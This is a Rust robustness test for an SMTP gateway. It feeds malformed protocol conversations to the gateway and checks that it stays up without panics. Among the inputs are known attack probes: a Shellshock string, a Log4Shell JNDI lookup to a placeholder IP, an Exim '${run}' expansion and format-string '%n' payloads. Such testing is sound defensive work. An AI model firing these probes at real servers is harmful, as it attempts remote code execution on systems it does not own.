//! What has brought down other servers does not bring down this one.

use postgate_tests::backend::Backend;
use postgate_tests::client::Client;
use postgate_tests::gateway::Setup;

/// A conversation from the first octet on, after which the client has nothing more to say.
const CONVERSATIONS: &[&[u8]] = &[
    b"",
    b"\n",
    b"\r",
    b"\r\n\r\n\r\n",
    b"\0",
    b"\0\0\0\0\r\n",
    b"EHLO\r\n",
    b"HELO\r\n",
    b"EHLO \r\nHELO  \r\n",
    b"MAIL\r\nRCPT\r\nDATA\r\n",
    b"EHLO x\r\nMAIL FROM:\r\nRCPT TO:\r\n",
    b"EHLO x\r\nMAIL FROM:<\r\nMAIL FROM:<>>\r\nMAIL FROM:<@\r\nMAIL FROM:<\"\r\n",
    b"EHLO x\r\nMAIL FROM:<> SIZE\r\nMAIL FROM:<> =\r\nMAIL FROM:<> ==\r\nMAIL FROM:<>  \r\n",
    b"EHLO x\r\nAUTH\r\nAUTH \r\nAUTH PLAIN\r\n\r\nAUTH PLAIN =\r\nAUTH LOGIN\r\n\r\n\r\n",
    // A response of NULs only, and of many fields.
    b"EHLO x\r\nAUTH PLAIN AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\n",
    b"EHLO x\r\nAUTH PLAIN AGEAYgBjAGQAZQBm\r\nAUTH PLAIN *\r\nAUTH LOGIN *\r\n*\r\n",
    b"EHLO x\r\nMAIL FROM:<>\r\nRCPT TO:<bob@example.org>\r\nBDAT -1\r\nBDAT\r\nBDAT LAST\r\n",
    b"EHLO x\r\nMAIL FROM:<>\r\nRCPT TO:<bob@example.org>\r\nBDAT 18446744073709551615\r\nx",
    b"EHLO x\r\nMAIL FROM:<>\r\nRCPT TO:<bob@example.org>\r\nBDAT 18446744073709551616 LAST\r\n",
    b"EHLO x\r\nMAIL FROM:<>\r\nRCPT TO:<bob@example.org>\r\nBDAT 9223372036854775808 LAST\r\nx",
    b"BDAT 4294967296\r\nx",
    b"EHLO x\r\nMAIL FROM:<>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\n.\r\nDATA\r\n.\r\n",
    b"EHLO x\r\nMAIL FROM:<>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\n\r\r\r\r\n\n\n.\n.\r.\r\n",
    b"EHLO x\r\nMAIL FROM:<>\r\nRCPT TO:<bob@example.org>\r\nDATA\r\n:\r\n \r\n\t\r\n::\r\n.\r\n",
    b"EHLO x\r\nRSET\r\nRSET\r\nRSET x\r\nNOOP\r\nHELP\r\nVRFY\r\nEXPN\r\nQUIT x\r\n",
    b"EHLO x\r\nSTARTTLS\r\nSTARTTLS x\r\nETRN\r\nTURN\r\nSAML\r\nSEND\r\nSOML\r\n",
    b"EHLO x\r\nXCLIENT\r\nXCLIENT ADDR\r\nXCLIENT ADDR=[::1\r\nPROXY\r\nPROXY TCP4\r\n",
    b"PROXY TCP4 1.1.1.1 2.2.2.2 1 2\r\n",
    b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\xff",
    b"GET / HTTP/1.1\r\nHost: mx.example.org\r\nUser-Agent: probe\r\n\r\n",
    b"POST / HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\n{}",
    b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n\r\n",
    b"SSH-2.0-OpenSSH_9.2\r\n",
    b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03",
    b"\x03\0\0\x13\x0e\xe0\0\0\0\0\0\x01\0\x08\0\x03\0\0\0",
    b"() { :; }; echo probe\r\n",
    b"EHLO ${jndi:ldap://192.0.2.1/a}\r\nMAIL FROM:<${run{x}}@client.example>\r\n",
    b"EHLO %s%s%s%n\r\nMAIL FROM:<%n@client.example>\r\nVRFY %x%x%x\r\n",
    b"EHLO \xff\xfe\xfd\r\nMAIL FROM:<\xc3\x28@client.example> SMTPUTF8\r\n",
];

#[test]
fn every_conversation_ends_well() {
    let backend = Backend::working();
    let mut gateway = Setup::new()
        .backend(&backend.smtp())
        .listener("auth = \"optional\"\nauth-in-clear = true")
        .plugin("10-recorder", "guests/recorder", "")
        .start();
    for conversation in CONVERSATIONS {
        let mut client = gateway.connect();
        // A gateway that has heard enough may close at any point.
        _ = client.try_write(conversation);
        client.hang_up();
        let said = client.drain();
        assert!(
            said.starts_with("220 "),
            "{}: {said}",
            conversation.escape_ascii()
        );
        assert!(
            said.ends_with("\r\n"),
            "{}: {said}",
            conversation.escape_ascii()
        );
    }
    let mut client = Client::greeted(gateway.address());
    client.envelope("alice@client.example", &["bob@example.org"]);
    assert!(client.message(b"Subject: x\r\n\r\n").starts_with("250"));
    assert!(gateway.is_up());
    assert_eq!(
        gateway.log().others(),
        [""; 0],
        "a panic does not speak JSON"
    );
    let errors = gateway.log().find(|line| line["level"] == "ERROR");
    assert!(errors.is_empty(), "{errors:#?}");
}
